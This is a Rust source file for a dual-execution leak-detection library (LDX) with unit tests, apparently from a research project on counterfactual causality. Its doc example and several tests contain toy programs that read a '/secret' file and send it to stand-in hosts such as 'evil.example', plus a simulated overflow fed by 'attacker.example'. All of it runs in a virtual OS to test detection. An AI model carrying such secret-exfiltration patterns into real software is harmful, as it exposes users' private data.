//! LDX: lightweight dual execution for counterfactual causality inference.
//!
//! This crate is the paper's runtime contribution. Given an instrumented Lx
//! program, [`dual_execute`] runs a **master** execution (the original) and
//! a **slave** execution (with perturbed sources) concurrently, coupled
//! through shared syscall outcomes:
//!
//! * when the executions are aligned (same progress key, site, arguments),
//!   the slave *copies* the master's syscall outcomes, so nondeterministic
//!   inputs (time, entropy, external events) cannot cause spurious
//!   differences;
//! * when the perturbation makes the paths diverge, the counter scheme
//!   detects it; misaligned syscalls execute *decoupled* against the
//!   slave's copy-on-divergence overlay, and the executions re-align at
//!   the next join point because the instrumented counter is
//!   path-independent;
//! * differences observed at **sinks** — aligned sinks with different
//!   payloads, or sinks present in only one execution — are *strong
//!   counterfactual causality* between the sources and the sink:
//!   an information leak, or exploit evidence.
//!
//! # Example: detecting a control-dependence leak
//!
//! The paper's central claim is that LDX catches causality that
//! dependence-based taint tracking misses — here the output reveals the
//! secret through a *branch*, with no data flow at all:
//!
//! ```
//! use std::sync::Arc;
//! use ldx_dualex::{dual_execute, DualSpec, SourceSpec};
//! use ldx_vos::VosConfig;
//!
//! let program = ldx_instrument::instrument(&ldx_ir::lower(&ldx_lang::compile(r#"
//!     fn main() {
//!         let fd = open("/secret", 0);
//!         let s = read(fd, 8);
//!         let msg = "low";
//!         if (s == "A") { msg = "high"; }      // control dependence only
//!         send(connect("evil.example"), msg);
//!     }
//! "#)?)).into_program();
//!
//! let world = VosConfig::new()
//!     .file("/secret", "A")
//!     .peer("evil.example", ldx_vos::PeerBehavior::Echo);
//! let spec = DualSpec::with_source(SourceSpec::file("/secret"));
//! let report = dual_execute(Arc::new(program), &world, &spec);
//! assert!(report.leaked(), "the control-dependence leak is detected");
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

mod couple;
mod engine;
mod fdmap;
mod master;
mod mutation;
mod recorder;
mod report;
mod resolved;
mod slave;
mod spec;

pub use engine::{dual_execute, dual_execute_shared, record, replay, Recording};
pub use mutation::Mutation;
pub use recorder::{
    key_scalar, ByteDiff, Decision, FlightEvent, FlightLog, ResourceId, DEFAULT_FLIGHT_CAPACITY,
    EXCERPT_BYTES,
};
pub use report::{CausalityKind, CausalityRecord, DualReport, Role};
pub use spec::{DualSpec, SinkSpec, SourceMatcher, SourceSpec};

#[cfg(test)]
mod tests {
    use super::*;
    use ldx_vos::{PeerBehavior, VosConfig};
    use std::sync::Arc;

    fn build(src: &str) -> Arc<ldx_ir::IrProgram> {
        Arc::new(
            ldx_instrument::instrument(&ldx_ir::lower(&ldx_lang::compile(src).unwrap()))
                .into_program(),
        )
    }

    /// The paper's running example (Fig. 2): employee record processing
    /// where the raise leaks the title through control dependences.
    fn employee_program() -> Arc<ldx_ir::IrProgram> {
        build(
            r#"
            fn sraise(salary, contract) {
                let fd = open(contract, 0);
                let rate = int(read(fd, 4));
                return salary * rate / 100;
            }
            fn mraise(salary) {
                let r = sraise(salary, "/contracts/manager");
                if (salary > 5000) {
                    write(3, "senior manager");
                }
                return r + 10;
            }
            fn main() {
                let fd = open("/employee", 0);
                let title = trim(read(fd, 8));
                let salary = int(read(fd, 8));
                let raise = 0;
                if (title == "STAFF") {
                    raise = sraise(salary, "/contracts/staff");
                } else {
                    raise = mraise(salary);
                    let dept = read(fd, 8);
                }
                let sock = connect("hr.example");
                send(sock, str(raise));
            }
            "#,
        )
    }

    fn employee_world() -> VosConfig {
        VosConfig::new()
            .file("/employee", "STAFF   1000    SALES   ")
            .file("/contracts/staff", "3   ")
            .file("/contracts/manager", "7   ")
            .peer("hr.example", PeerBehavior::Echo)
    }

    #[test]
    fn identity_mutation_reports_nothing() {
        // Invariant I5: no perturbation => perfect alignment, no report.
        let spec =
            DualSpec::with_source(SourceSpec::file("/employee").with_mutation(Mutation::Identity));
        let report = dual_execute(employee_program(), &employee_world(), &spec);
        assert!(report.master.is_ok(), "master: {:?}", report.master);
        assert!(report.slave.is_ok(), "slave: {:?}", report.slave);
        assert!(!report.leaked(), "records: {:?}", report.causality);
        assert_eq!(report.syscall_diffs, 0);
        assert_eq!(report.decoupled, 0);
        assert!(report.shared > 0);
    }

    #[test]
    fn figure2_control_dependence_leak_detected() {
        // Mutate the title STAFF -> MANAGER: the slave takes the manager
        // branch (different syscalls inside), re-aligns at the send, and
        // the raise value differs -> strong causality, exactly the paper's
        // Fig. 3 scenario.
        let spec = DualSpec::with_source(SourceSpec {
            matcher: SourceMatcher::FileRead("/employee".into()),
            mutation: Mutation::Replace("MANAGER 9000    SALES   ".into()),
        })
        .recorded();
        let report = dual_execute(employee_program(), &employee_world(), &spec);
        assert!(report.master.is_ok() && report.slave.is_ok());
        assert!(report.leaked(), "leak must be detected");
        assert!(
            report.causality.iter().any(|c| matches!(
                c.kind,
                CausalityKind::ArgDiff { .. } | CausalityKind::MasterOnlySink
            )),
            "causality at the send sink: {:?}",
            report.causality
        );
        assert!(
            report.syscall_diffs > 0,
            "branch divergence causes syscall diffs"
        );
        assert!(!report.trace_lines().is_empty());
    }

    #[test]
    fn syscall_differences_without_leak_are_tolerated() {
        // The heart of paper Table 2 / the TightLip comparison: the
        // mutation changes *which* syscalls run (different branch, extra
        // reads) but the final output is the same -> LDX must stay silent
        // where TightLip would (falsely) report.
        let program = build(
            r#"
            fn main() {
                let fd = open("/config", 0);
                let mode = trim(read(fd, 8));
                if (mode == "cache") {
                    let c = open("/cache/data", 0);
                    let cached = read(c, 16);
                    close(c);
                } else {
                    mkdir("/cache");
                    let w = open("/cache/data", 1);
                    write(w, "fresh-data      ");
                    close(w);
                }
                send(connect("client.example"), "ok");
            }
            "#,
        );
        let world = VosConfig::new()
            .file("/config", "cache   ")
            .file("/cache/data", "fresh-data      ")
            .peer("client.example", PeerBehavior::Echo);
        let spec = DualSpec::default()
            .source(SourceSpec {
                matcher: SourceMatcher::FileRead("/config".into()),
                mutation: Mutation::Replace("rebuild ".into()),
            })
            .sinks(SinkSpec::NetworkOut);
        let report = dual_execute(program, &world, &spec);
        assert!(report.master.is_ok() && report.slave.is_ok());
        assert!(
            report.syscall_diffs > 0,
            "the two executions take different paths"
        );
        assert!(
            !report.leaked(),
            "no sink difference => no causality: {:?}",
            report.causality
        );
    }

    #[test]
    fn data_dependence_leak_detected() {
        let program = build(
            r#"fn main() {
                let fd = open("/secret", 0);
                let s = read(fd, 16);
                send(connect("out.example"), "v=" + s);
            }"#,
        );
        let world = VosConfig::new()
            .file("/secret", "k3y")
            .peer("out.example", PeerBehavior::Echo);
        let spec = DualSpec::with_source(SourceSpec::file("/secret"));
        let report = dual_execute(program, &world, &spec);
        assert!(report.leaked());
        let CausalityKind::ArgDiff { master, slave } = &report.causality[0].kind else {
            panic!("expected ArgDiff, got {:?}", report.causality[0].kind)
        };
        assert_ne!(master, slave);
    }

    #[test]
    fn unrelated_output_not_reported() {
        // The output does not depend on the secret at all.
        let program = build(
            r#"fn main() {
                let fd = open("/secret", 0);
                let s = read(fd, 16);
                let t = len(s) * 0;
                send(connect("out.example"), "constant" + str(t));
            }"#,
        );
        let world = VosConfig::new()
            .file("/secret", "abc")
            .peer("out.example", PeerBehavior::Echo);
        let spec = DualSpec::with_source(SourceSpec::file("/secret"));
        let report = dual_execute(program, &world, &spec);
        assert!(!report.leaked(), "{:?}", report.causality);
        assert!(report.shared > 0);
    }

    #[test]
    fn loops_with_source_dependent_trip_counts_realign() {
        // Paper Fig. 4/5: loop bounds are the sources; iteration counts
        // differ between master and slave, yet the executions re-align at
        // the final send.
        let program = build(
            r#"fn main() {
                let fd = open("/in", 0);
                let n = int(read(fd, 2));
                let m = int(read(fd, 2));
                let total = 0;
                for (let i = 0; i < n; i = i + 1) {
                    for (let j = 0; j < m; j = j + 1) {
                        total = total + int(read(fd, 2));
                    }
                    write(3, str(total));
                }
                send(connect("out.example"), str(n * 100 + m));
            }"#,
        );
        let world = VosConfig::new()
            .file("/in", "1 2 10203040506070")
            .peer("out.example", PeerBehavior::Echo);
        let spec = DualSpec::default()
            .source(SourceSpec {
                matcher: SourceMatcher::FileRead("/in".into()),
                mutation: Mutation::Replace("2 1 10203040506070".into()),
            })
            .sinks(SinkSpec::NetworkOut);
        let report = dual_execute(program, &world, &spec);
        assert!(report.master.is_ok(), "master: {:?}", report.master);
        assert!(report.slave.is_ok(), "slave: {:?}", report.slave);
        // The send payload differs (102 vs 201): strong causality.
        assert!(report.leaked());
        assert!(report
            .causality
            .iter()
            .any(|c| matches!(c.kind, CausalityKind::ArgDiff { .. })));
    }

    #[test]
    fn site_sinks_detect_attack_style_causality() {
        // Vulnerable-program style: the "critical value" (stand-in for a
        // return address) is exposed at a designated site sink.
        let program = build(
            r#"
            fn process(input) {
                let retaddr = 4096;
                if (len(trim(input)) > 8) {
                    // "overflow": the input corrupts the return address.
                    retaddr = int(substr(input, 8, 8));
                }
                write(3, str(retaddr));
                return 0;
            }
            fn main() {
                let sock = connect("attacker.example");
                let data = recv(sock, 32);
                process(data);
            }
            "#,
        );
        let world = VosConfig::new().peer(
            "attacker.example",
            PeerBehavior::Script(vec!["AAAAAAAA99999999".into()]),
        );
        let spec = DualSpec::default()
            .source(SourceSpec::net("attacker.example"))
            .sinks(SinkSpec::Sites(vec![("process".into(), 0)]));
        let report = dual_execute(program, &world, &spec);
        assert!(report.leaked(), "attack causality detected");
    }

    #[test]
    fn concurrent_program_with_locks_is_quiet_without_leak() {
        let program = build(
            r#"
            global total = 0;
            fn worker(k) {
                for (let i = 0; i < 5; i = i + 1) {
                    lock(1);
                    total = total + k;
                    unlock(1);
                }
                return 0;
            }
            fn main() {
                let fd = open("/in", 0);
                let secret = read(fd, 4);
                let t1 = spawn(&worker, 1);
                let t2 = spawn(&worker, 2);
                join(t1);
                join(t2);
                send(connect("out.example"), str(total));
            }
            "#,
        );
        let world = VosConfig::new()
            .file("/in", "abcd")
            .peer("out.example", PeerBehavior::Echo);
        let spec = DualSpec::default()
            .source(SourceSpec::file("/in"))
            .sinks(SinkSpec::NetworkOut);
        let report = dual_execute(program, &world, &spec);
        assert!(report.master.is_ok(), "master: {:?}", report.master);
        assert!(report.slave.is_ok(), "slave: {:?}", report.slave);
        assert!(
            !report.leaked(),
            "total independent of secret: {:?}",
            report.causality
        );
    }

    #[test]
    fn concurrent_leak_detected_through_threads() {
        let program = build(
            r#"
            global secret_len = 0;
            fn worker(k) {
                lock(1);
                secret_len = secret_len + k;
                unlock(1);
                return 0;
            }
            fn main() {
                let fd = open("/in", 0);
                let secret = trim(read(fd, 8));
                let t = spawn(&worker, len(secret));
                join(t);
                send(connect("out.example"), str(secret_len));
            }
            "#,
        );
        let world = VosConfig::new()
            .file("/in", "abc     ")
            .peer("out.example", PeerBehavior::Echo);
        let spec = DualSpec::default()
            .source(SourceSpec {
                matcher: SourceMatcher::FileRead("/in".into()),
                mutation: Mutation::Replace("abcdef  ".into()),
            })
            .sinks(SinkSpec::NetworkOut);
        let report = dual_execute(program, &world, &spec);
        assert!(report.leaked(), "length leak through a thread");
    }

    #[test]
    fn exit_code_difference_is_end_diff() {
        let program = build(
            r#"fn main() {
                let fd = open("/in", 0);
                let v = int(read(fd, 4));
                if (v > 10) { exit(1); }
                exit(0);
            }"#,
        );
        let world = VosConfig::new().file("/in", "5   ");
        let spec = DualSpec::with_source(SourceSpec {
            matcher: SourceMatcher::FileRead("/in".into()),
            mutation: Mutation::Replace("50  ".into()),
        });
        let report = dual_execute(program, &world, &spec);
        assert!(report
            .causality
            .iter()
            .any(|c| matches!(c.kind, CausalityKind::EndDiff { .. })));
    }

    #[test]
    fn decoupled_reads_reconstruct_position() {
        // The slave diverges *after* consuming part of a shared file; its
        // decoupled read must continue from the right offset (clone +
        // open + seek, paper §4.2).
        let program = build(
            r#"fn main() {
                let fd = open("/data", 0);
                let head = read(fd, 4);
                let sfd = open("/secret", 0);
                let secret = read(sfd, 4);
                let out = "";
                if (secret == "yes ") {
                    let tail1 = read(fd, 4);
                    out = head + tail1;
                } else {
                    let tail2 = read(fd, 4);
                    let tail3 = read(fd, 4);
                    out = head + tail2 + tail3;
                }
                send(connect("out.example"), out);
            }"#,
        );
        let world = VosConfig::new()
            .file("/data", "AAAABBBBCCCC")
            .file("/secret", "yes ")
            .peer("out.example", PeerBehavior::Echo);
        let spec = DualSpec::default()
            .source(SourceSpec {
                matcher: SourceMatcher::FileRead("/secret".into()),
                mutation: Mutation::Replace("no  ".into()),
            })
            .sinks(SinkSpec::NetworkOut);
        let report = dual_execute(program, &world, &spec);
        assert!(report.leaked());
        // The slave's sink payload must show the *continued* file content
        // (AAAABBBBCCCC), proving the overlay seeked correctly.
        let arg_diff = report.causality.iter().find_map(|c| match &c.kind {
            CausalityKind::ArgDiff { master, slave } => Some((master.clone(), slave.clone())),
            _ => None,
        });
        let (master, slave) = arg_diff.expect("send args compared");
        assert!(master.contains("AAAABBBB"), "master: {master}");
        assert!(slave.contains("AAAABBBBCCCC"), "slave: {slave}");
    }

    #[test]
    fn slave_writes_do_not_leak_into_master_world() {
        let program = build(
            r#"fn main() {
                let fd = open("/in", 0);
                let v = trim(read(fd, 4));
                if (v == "log") {
                    let w = open("/log.txt", 1);
                    write(w, "logged:" + v);
                    close(w);
                }
                send(connect("out.example"), "done");
            }"#,
        );
        let world = VosConfig::new()
            .file("/in", "off ")
            .peer("out.example", PeerBehavior::Echo);
        let spec = DualSpec::default()
            .source(SourceSpec {
                matcher: SourceMatcher::FileRead("/in".into()),
                mutation: Mutation::Replace("log ".into()),
            })
            .sinks(SinkSpec::NetworkOut);
        let report = dual_execute(program, &world, &spec);
        // Master (v=off) never creates the log file; slave's decoupled
        // write stays in the overlay. No sink diff: the send agrees.
        assert!(!report.leaked(), "{:?}", report.causality);
        assert!(report.decoupled > 0, "slave executed decoupled writes");
    }

    #[test]
    fn stats_accumulate_sensibly() {
        let spec =
            DualSpec::with_source(SourceSpec::file("/employee").with_mutation(Mutation::Identity));
        let report = dual_execute(employee_program(), &employee_world(), &spec);
        let master_sys = report.master.as_ref().unwrap().stats.syscalls;
        assert_eq!(report.shared, master_sys, "all outcomes shared");
        assert_eq!(report.master_sinks, 1, "one send sink");
    }

    #[test]
    fn a_recording_replays_only_specs_that_differ_in_sources() {
        let spec = DualSpec::with_source(SourceSpec::file("/employee"));
        let recording = record(employee_program(), &employee_world(), &spec);
        let other_source = DualSpec::with_source(SourceSpec::file("/contracts/staff"));
        assert!(recording.accepts(&other_source));
        assert!(!recording.accepts(&spec.clone().sinks(SinkSpec::NetworkOut)));
        assert!(!recording.accepts(&spec.clone().recorded()));
        let fresh = dual_execute(employee_program(), &employee_world(), &other_source);
        let replayed = replay(&recording, &other_source);
        assert_eq!(replayed.causality, fresh.causality);
        assert_eq!(replayed.shared, fresh.shared);
    }

    #[test]
    #[should_panic(expected = "only the recorded spec's sources")]
    fn replaying_other_sinks_is_refused() {
        let spec = DualSpec::with_source(SourceSpec::file("/employee"));
        let recording = record(employee_program(), &employee_world(), &spec);
        replay(&recording, &spec.sinks(SinkSpec::FileOut));
    }

    #[test]
    #[should_panic(expected = "only without a spawn site")]
    fn slaves_of_a_spawning_program_do_not_share_a_master() {
        let program = build(
            r#"
            fn worker(k) { return k; }
            fn main() { join(spawn(&worker, 1)); }
            "#,
        );
        let spec = DualSpec::default();
        dual_execute_shared(program, &VosConfig::new(), &[spec.clone(), spec]);
    }

    #[test]
    fn dual_execute_is_reentrant_across_threads() {
        // The batch scheduler's contract: concurrent dual_execute calls
        // (same program, same world) behave exactly like sequential ones.
        let program = employee_program();
        let world = employee_world();
        let spec = DualSpec::with_source(SourceSpec::file("/employee"));
        let baseline = dual_execute(Arc::clone(&program), &world, &spec);
        let concurrent: Vec<DualReport> = std::thread::scope(|s| {
            let handles: Vec<_> = (0..4)
                .map(|_| {
                    let program = Arc::clone(&program);
                    let world = &world;
                    let spec = &spec;
                    s.spawn(move || dual_execute(program, world, spec))
                })
                .collect();
            handles.into_iter().map(|h| h.join().unwrap()).collect()
        });
        for report in &concurrent {
            assert_eq!(report.leaked(), baseline.leaked());
            assert_eq!(report.causality.len(), baseline.causality.len());
            assert_eq!(report.shared, baseline.shared);
            assert_eq!(report.syscall_diffs, baseline.syscall_diffs);
        }
    }
}
